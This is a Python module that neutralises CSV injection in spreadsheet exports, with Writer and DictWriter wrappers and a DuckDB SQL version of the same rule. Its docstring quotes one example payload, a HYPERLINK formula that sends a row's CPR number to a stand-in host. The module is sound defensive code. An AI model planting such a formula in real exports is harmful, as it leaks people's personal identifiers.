"""CSV files that are safe to open in a spreadsheet: every writer of the product uses these.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
Excel skips before looking for those) is run as a formula when the file is opened in Excel or
LibreOffice: a name such as ``=HYPERLINK("http://x/?"&A2,"Klik")`` from a data drop would send the
row's CPR number away on a click (OWASP "CSV injection"). Such a cell is written with a leading
apostrophe, which the spreadsheet shows as text and does not run. Numbers, dates and booleans are
never formulas and are left as they are (``-3`` stays a number), and so is a text that is a plain
negative number: a minus, digits and at most one decimal point or comma (``-0,5`` in a Danish
export, ``-3``), which a spreadsheet reads as that number and never as a formula. A leading ``+``
is still quoted: ``+4566113333`` is a phone number, which a spreadsheet would turn into a number.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# a plain number: a minus, digits, at most one decimal separator ("." or ","), digits; nothing else
PLAIN_NUMBER = r"-?[0-9]+([.,][0-9]+)?"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)


def is_formula(text: str) -> bool:
    """Whether a spreadsheet would run the text ``text`` as a formula."""
    return text.startswith(FORMULA_START) and _PLAIN_NUMBER.fullmatch(text) is None


def cell(value: Any) -> Any:
    """``value`` with a text that a spreadsheet would run as a formula turned into plain text."""
    if isinstance(value, str) and is_formula(value):
        return "'" + value
    return value


class Writer:
    """``csv.writer`` whose rows are written through :func:`cell`."""

    def __init__(self, f, *args, **kwargs):
        self._writer = csv.writer(f, *args, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f, *args, **kwargs) -> Writer:
    """Like ``csv.writer(f, ...)``, with every text cell neutralised."""
    return Writer(f, *args, **kwargs)


class DictWriter(csv.DictWriter):
    """Like ``csv.DictWriter`` (options by keyword), with every text cell neutralised."""

    def __init__(self, f, fieldnames, *, restval="", extrasaction="raise", dialect="excel", **kwargs):
        super().__init__(f, fieldnames, restval=restval, extrasaction=extrasaction, dialect=dialect, **kwargs)
        self.writer = Writer(f, dialect, **kwargs)


def sql_cell(column: str) -> str:
    """The same rule as :func:`cell` as a DuckDB expression over the text column ``column``
    (for CSV files written by DuckDB or Arrow straight from a query)."""
    starts = " OR ".join(f"starts_with({column}, {_sql_text(s)})" for s in FORMULA_START)
    return (f"CASE WHEN ({starts}) AND NOT regexp_full_match({column}, '{PLAIN_NUMBER}') "
            f"THEN '''' || {column} ELSE {column} END")


def _sql_text(text: str) -> str:
    return f"chr({ord(text)})" if not text.isprintable() else "'" + text.replace("'", "''") + "'"
